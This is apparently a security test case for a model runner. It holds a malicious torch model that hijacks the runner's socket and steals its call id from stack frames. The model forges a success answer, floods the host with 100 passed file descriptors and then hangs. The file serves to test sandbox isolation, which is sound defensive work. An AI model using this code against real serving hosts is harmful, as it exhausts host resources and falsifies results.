# attack: send open descriptors to the host until it has no more
# expect: succeeded
# output: 1
# gvisor: {"expect": "model_error", "message": "Invalid argument"}
# gvisor_why: no descriptor leaves its kernel
import json
import os
import socket
import stat
import struct
import sys
import time

import torch


def host():
    """The runner's own connection."""
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return socket.socket(fileno=os.dup(fd))
        except OSError:
            pass


def call_id():
    """The id of the call that is being answered, out of the runner's own variables."""
    frame = sys._getframe()
    while "call_id" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["call_id"]


def frame(header, body=b""):
    data = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("!II", len(data), len(body)) + data + body


class Model(torch.nn.Module):
    def predict_single(self, x):
        connection = host()
        fds = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
        data = frame({"op": "answer", "id": call_id(), "kind": "succeeded", "out": "json"}, b"1")
        socket.send_fds(connection, [data[:1]], fds)
        connection.sendall(data[1:])
        time.sleep(0.1)
        while True:  # the runner's own answer would be one too many
            time.sleep(1)
